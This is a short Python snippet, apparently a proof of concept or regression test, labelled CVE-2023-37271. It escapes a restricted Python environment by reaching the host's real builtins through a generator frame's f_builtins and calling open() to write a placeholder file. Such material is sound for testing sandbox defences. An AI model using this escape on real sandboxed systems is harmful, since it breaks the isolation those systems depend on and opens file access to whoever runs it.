# CVE-2023-37271: a generator frame's f_builtins hands out the host's builtins.
def gen():
    yield 1
g = gen()
g.gi_frame.f_builtins["open"](SENTINEL, "w").close()
